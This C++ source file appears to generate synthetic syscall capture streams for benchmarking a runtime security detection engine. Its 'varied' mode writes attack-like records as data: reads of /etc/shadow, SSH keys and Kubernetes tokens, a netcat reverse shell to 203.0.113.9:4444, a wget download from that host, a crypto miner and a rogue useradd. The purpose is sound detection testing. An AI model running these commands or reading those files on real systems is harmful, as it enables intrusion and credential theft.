#include "syscall_mix.h"

#include <fcntl.h>
#include <netinet/in.h>
#include <sys/socket.h>

#include <span>

#include "capture/capture_info.h"
#include "capture/capture_writer.h"
#include "event/event.h"
#include "event/record_builder.h"
#include "event/sockaddr.h"
#include "schema/event_table.h"

namespace lanner::bench {
namespace {

constexpr int64_t kFirstPid = 1000;
constexpr int kProcesses = 64;

const char* const kPaths[] = {
    "/etc/ld.so.cache",
    "/lib/x86_64-linux-gnu/libc.so.6",
    "/lib/x86_64-linux-gnu/libpthread.so.0",
    "/usr/lib/locale/locale-archive",
    "/etc/nsswitch.conf",
    "/etc/passwd",
    "/proc/self/status",
    "/sys/fs/cgroup/memory/memory.limit_in_bytes",
    "/var/log/nginx/access.log",
    "/var/lib/postgresql/15/main/base/16384/2619",
    "/home/alice/projects/lanner/engine/state/state_tracker.cpp",
    "/usr/share/zoneinfo/Europe/Amsterdam",
    "config/app.yaml",
    "../shared/data/cache.db",
    "/tmp/systemd-private-1f2e3d4c5b6a/tmp/session.lock",
    "/etc/ssl/certs/ca-certificates.crt",
};

// What the varied stream adds: paths, programs and peers the upstream
// rules single out.
const char* const kVariedPaths[] = {
    "/etc/shadow",
    "/etc/sudoers",
    "/etc/pam.d/sshd",
    "/etc/sudoers.d/admins",
    "/root/.ssh/id_rsa",
    "/home/alice/.ssh/authorized_keys",
    "/home/alice/.bashrc",
    "/root/.bash_history",
    "/etc/cron.d/backup",
    "/var/spool/cron/crontabs/root",
    "/dev/shm/payload",
    "/dev/newdev",
    "/proc/1/environ",
    "/var/log/auth.log",
    "../../../etc/passwd",
    "/srv/app/../../etc/shadow",
    "/usr/bin/newtool",
    "/usr/lib/x86_64-linux-gnu/liblzma.so.5",
    "/var/lib/rpm/Packages",
    "/etc/apt/sources.list.d/extra.list",
    "/etc/ld.so.preload",
    "/boot/vmlinuz",
    "/.hidden/file",
    "/var/run/secrets/kubernetes.io/serviceaccount/token",
    "/sys/fs/cgroup/release_agent",
    "/etc/profile.d/x.sh",
    "/tmp/.X11-unix/.hidden",
};

const uint64_t kVariedFlags[] = {
    O_RDONLY | O_CLOEXEC, O_WRONLY | O_CREAT | O_TRUNC, O_RDWR,
    O_WRONLY | O_APPEND,  O_RDONLY | O_DIRECTORY,
};

struct Proc {
    int64_t pid;
    std::vector<int64_t> fds;
    int64_t next_fd = 10;
};

class StreamBuilder {
  public:
    StreamBuilder(uint64_t seed, bool lifecycles, bool varied)
        : rng_(seed), lifecycles_(lifecycles), varied_(varied) {}

    std::vector<uint8_t> build(size_t events) {
        for (int i = 0; i < kProcesses; ++i) seed_process(kFirstPid + i);
        while (count_ < events) step();
        return std::move(out_);
    }
    size_t count() const { return count_; }

  private:
    uint64_t next() {
        rng_ ^= rng_ << 13;
        rng_ ^= rng_ >> 7;
        rng_ ^= rng_ << 17;
        return rng_;
    }
    void emit(RecordBuilder& b) {
        b.ts(ts_ += 500);
        b.append_to(out_);
        ++count_;
    }

    void seed_process(int64_t pid) {
        RecordBuilder t("threadinfo");
        t.thread(static_cast<uint32_t>(pid), static_cast<uint32_t>(pid))
            .set("tid", pid)
            .set("pid", pid)
            .set("ptid", int64_t{1})
            .set("comm", "worker")
            .set("exe", "/usr/sbin/worker")
            .set_list("args", {"--config", "/etc/worker.conf"})
            .set("cwd", "/srv/app")
            .set_list("cgroups",
                      {"cpu=/system.slice/worker.service", "memory=/system.slice/worker.service"})
            .set("trusted_exepath", "/usr/sbin/worker")
            .set("uid", 33u)
            .set("gid", 33u);
        emit(t);
        Proc p{pid, {}, 10};
        // A listening socket on fd 3 for accept4.
        RecordBuilder f("fdinfo");
        f.set("pid", pid)
            .set("fd", int64_t{3})
            .set("type", int64_t{LN_FD_IPV4_SOCK})
            .set_bytes("tuple", inet_tuple("0.0.0.0", 0, "0.0.0.0", 8080))
            .set("l4proto", int64_t{IPPROTO_TCP})
            .set("role", 2u);
        emit(f);
        procs_.push_back(p);
    }

    int64_t take_fd(Proc& p) {
        const int64_t fd = p.next_fd++;
        if (p.next_fd > 1000) p.next_fd = 10;
        p.fds.push_back(fd);
        return fd;
    }

    void openat(Proc& p) {
        RecordBuilder b("openat");
        const char* path = kPaths[next() % std::size(kPaths)];
        uint64_t flags = O_RDONLY | O_CLOEXEC;
        int64_t fd = 0;
        if (varied_ && next() % 2) {
            path = kVariedPaths[next() % std::size(kVariedPaths)];
            flags = kVariedFlags[next() % std::size(kVariedFlags)];
            // Some attempts fail (fd.num = -1, evt.res = ENOENT).
            fd = next() % 8 == 0 ? -2 : take_fd(p);
        } else {
            fd = take_fd(p);
        }
        b.thread(static_cast<uint32_t>(p.pid), static_cast<uint32_t>(p.pid))
            .set("fd", fd)
            .set("dirfd", int64_t{AT_FDCWD})
            .set("name", path)
            .set("flags", flags)
            .set("dev", uint64_t{(8u << 20) | 1})
            .set("ino", next() % 100000);
        emit(b);
    }

    void close(Proc& p) {
        if (p.fds.empty()) return openat(p);
        const size_t i = next() % p.fds.size();
        const int64_t fd = p.fds[i];
        p.fds[i] = p.fds.back();
        p.fds.pop_back();
        RecordBuilder b("close");
        b.thread(static_cast<uint32_t>(p.pid), static_cast<uint32_t>(p.pid))
            .set("res", int64_t{0})
            .set("fd", fd);
        emit(b);
    }

    void connect(Proc& p) {
        const int64_t fd = take_fd(p);
        RecordBuilder s("socket");
        s.thread(static_cast<uint32_t>(p.pid), static_cast<uint32_t>(p.pid))
            .set("fd", fd)
            .set("domain", int64_t{AF_INET})
            .set("type", uint64_t{SOCK_STREAM})
            .set("proto", 0u);
        emit(s);
        RecordBuilder c("connect");
        const char* peer = "10.0.3.17";
        uint16_t port = 5432;
        if (varied_) {
            static const char* const kPeers[] = {"10.0.3.17", "169.254.169.254", "203.0.113.9",
                                                 "10.96.0.1", "192.168.1.20"};
            static const uint16_t kPorts[] = {5432, 22, 2222, 4444, 443, 3333, 30080, 6443};
            peer = kPeers[next() % std::size(kPeers)];
            port = kPorts[next() % std::size(kPorts)];
        }
        c.thread(static_cast<uint32_t>(p.pid), static_cast<uint32_t>(p.pid))
            .set("res", int64_t{0})
            .set("fd", fd)
            .set_bytes(
                "tuple",
                inet_tuple("10.0.0.5", static_cast<uint16_t>(30000 + next() % 30000), peer, port))
            .set_bytes("addr", inet_sockaddr(peer, port));
        emit(c);
    }

    void accept(Proc& p) {
        RecordBuilder a("accept4");
        a.thread(static_cast<uint32_t>(p.pid), static_cast<uint32_t>(p.pid))
            .set("fd", take_fd(p))
            .set_bytes("tuple",
                       inet_tuple("192.0.2.44", static_cast<uint16_t>(1024 + next() % 60000),
                                  "10.0.0.5", 8080))
            .set("listen_fd", int64_t{3})
            .set("flags", uint64_t{SOCK_CLOEXEC});
        emit(a);
    }

    void udp(Proc& p) {
        RecordBuilder b(next() % 2 ? "sendto" : "recvfrom");
        b.thread(static_cast<uint32_t>(p.pid), static_cast<uint32_t>(p.pid))
            .set("res", int64_t{64})
            .set("fd", int64_t{3})
            .set("size", 64u)
            .set_bytes("tuple", inet_tuple("10.0.0.5", 8080, "10.0.0.53", 53));
        emit(b);
    }

    void dup2(Proc& p) {
        if (p.fds.empty()) return openat(p);
        RecordBuilder b("dup2");
        b.thread(static_cast<uint32_t>(p.pid), static_cast<uint32_t>(p.pid))
            .set("res", int64_t{2})
            .set("oldfd", p.fds[next() % p.fds.size()])
            .set("newfd", int64_t{2});
        emit(b);
    }

    void fcntl(Proc& p) {
        if (p.fds.empty()) return openat(p);
        RecordBuilder b("fcntl");
        b.thread(static_cast<uint32_t>(p.pid), static_cast<uint32_t>(p.pid))
            .set("res", int64_t{0})
            .set("fd", p.fds[next() % p.fds.size()])
            .set("cmd", int64_t{F_SETFD})
            .set("arg", uint64_t{FD_CLOEXEC});
        emit(b);
    }

    // clone (parent record, then the child's), exec, a few opens, exit.
    void lifecycle(Proc& parent) {
        const int64_t child = next_child_++;
        if (next_child_ > 400000) next_child_ = 100000;
        auto snap = [&](RecordBuilder& b, int64_t tid, int64_t ptid) {
            b.set("exe", "/bin/sh")
                .set_list("args", {"-c", "pg_dump app"})
                .set("tid", tid)
                .set("pid", tid)
                .set("ptid", ptid)
                .set("cwd", "/srv/app")
                .set("comm", "sh")
                .set_list("cgroups", {"cpu=/system.slice/worker.service",
                                      "memory=/system.slice/worker.service"})
                .set("uid", 33u)
                .set("gid", 33u)
                .set("vtid", tid)
                .set("vpid", tid)
                .set("trusted_exepath", "/usr/bin/dash");
        };
        RecordBuilder cp("clone");
        cp.thread(static_cast<uint32_t>(parent.pid), static_cast<uint32_t>(parent.pid))
            .set("res", child)
            .set("flags", uint64_t{17});
        snap(cp, parent.pid, 1);
        emit(cp);
        RecordBuilder cc("clone");
        cc.thread(static_cast<uint32_t>(child), static_cast<uint32_t>(child))
            .set("res", int64_t{0})
            .set("flags", uint64_t{17});
        snap(cc, child, parent.pid);
        emit(cc);
        // What the shell runs: a few typical programs of a server.
        struct Image {
            const char* exe;
            const char* path;
            const char* comm;
            std::vector<std::string> args;
        };
        static const Image kImages[] = {
            {"pg_dump", "/usr/bin/pg_dump", "pg_dump", {"app"}},
            {"curl", "/usr/bin/curl", "curl", {"-s", "http://10.0.3.17/health"}},
            {"python3", "/usr/bin/python3.11", "python3", {"/srv/app/manage.py", "cron"}},
            {"gzip", "/usr/bin/gzip", "gzip", {"-9", "/var/log/app/app.log.1"}},
            {"git", "/usr/bin/git", "git", {"pull", "--ff-only"}},
        };
        static const Image kVariedImages[] = {
            {"bash", "/usr/bin/bash", "bash", {"-i"}},
            {"nc", "/usr/bin/nc", "nc", {"-e", "/bin/sh", "203.0.113.9", "4444"}},
            {"sudo", "/usr/bin/sudo", "sudo", {"-u", "root", "id"}},
            {"find", "/usr/bin/find", "find", {"/", "-name", "id_rsa"}},
            {"crontab", "/usr/bin/crontab", "crontab", {"-e"}},
            {"useradd", "/usr/sbin/useradd", "useradd", {"mallory"}},
            {"xmrig", "/tmp/xmrig", "xmrig", {"-o", "stratum+tcp://pool:3333"}},
            {"base64", "/usr/bin/base64", "base64", {"-d"}},
            {"apt-get", "/usr/bin/apt-get", "apt-get", {"install", "nmap"}},
            {"wget", "/usr/bin/wget", "wget", {"http://203.0.113.9/x"}},
        };
        const Image& img = varied_ && next() % 2 ? kVariedImages[next() % std::size(kVariedImages)]
                                                 : kImages[next() % std::size(kImages)];
        RecordBuilder ex("execve");
        ex.thread(static_cast<uint32_t>(child), static_cast<uint32_t>(child))
            .set("res", int64_t{0});
        snap(ex, child, parent.pid);
        ex.set("exe", img.exe)
            .set("trusted_exepath", img.path)
            .set("comm", img.comm)
            .set_list("args", img.args)
            .set_list("env", {"PATH=/usr/bin:/bin", "PGHOST=db"});
        emit(ex);
        Proc c{child, parent.fds, parent.next_fd};
        for (int i = 0; i < 3; ++i) openat(c);
        RecordBuilder ex2("procexit");
        ex2.thread(static_cast<uint32_t>(child), static_cast<uint32_t>(child))
            .set("status", int64_t{0});
        emit(ex2);
    }

    void step() {
        Proc& p = procs_[next() % procs_.size()];
        const uint64_t r = next() % 1000;
        if (r < 420)
            openat(p);
        else if (r < 840)
            close(p);
        else if (r < 870)
            connect(p);
        else if (r < 890)
            accept(p);
        else if (r < 940)
            udp(p);
        else if (r < 955)
            dup2(p);
        else if (r < 975)
            fcntl(p);
        else if (r < 975 + (lifecycles_ ? (varied_ ? 25 : 10) : 0))
            lifecycle(p);
        else
            close(p);
        // Keep tables realistic: processes do not accumulate fds forever.
        while (p.fds.size() > 200) close(p);
    }

    uint64_t rng_;
    bool lifecycles_;
    bool varied_;
    uint64_t ts_ = 1'000'000'000;
    size_t count_ = 0;
    int64_t next_child_ = 100000;
    std::vector<Proc> procs_;
    std::vector<uint8_t> out_;
};

}  // namespace

std::vector<uint8_t> build_syscall_mix(size_t events, const MixOptions& options) {
    StreamBuilder builder(options.seed, options.lifecycles, options.varied);
    return builder.build(events);
}

size_t write_syscall_mix_capture(const std::string& path, size_t events,
                                 const MixOptions& options) {
    const std::vector<uint8_t> stream = build_syscall_mix(events, options);
    capture::CaptureInfo info = capture::CaptureInfo::for_this_host("synthetic");
    info.start_ts = 1'000'000'000;
    auto writer = capture::CaptureWriter::to_file(path, info);
    size_t n = 0;
    for (size_t off = 0; off < stream.size(); ++n) {
        Event ev;
        Event::decode(std::span(stream).subspan(off), ev);
        if (schema::is_meta_event(ev.type()))
            writer.write_state(ev);
        else
            writer.write_event(ev);
        off += ev.len();
    }
    writer.close();
    return n;
}

}  // namespace lanner::bench
